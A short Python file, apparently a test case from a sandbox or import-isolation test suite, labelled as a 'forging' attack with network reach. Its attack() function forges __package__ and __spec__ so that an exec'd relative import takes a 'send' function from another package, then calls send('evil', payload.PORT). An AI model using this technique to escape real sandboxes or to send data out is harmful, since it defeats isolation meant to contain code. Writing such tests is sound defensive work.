"""A relative import from the package that __package__ names."""
CATEGORY = "forging"
REACH = "net"

from . import payload


def attack():
    import good
    globals()["__package__"] = "good"
    globals()["__spec__"] = good.__spec__
    exec("from . import send", globals())
    send("evil", payload.PORT)
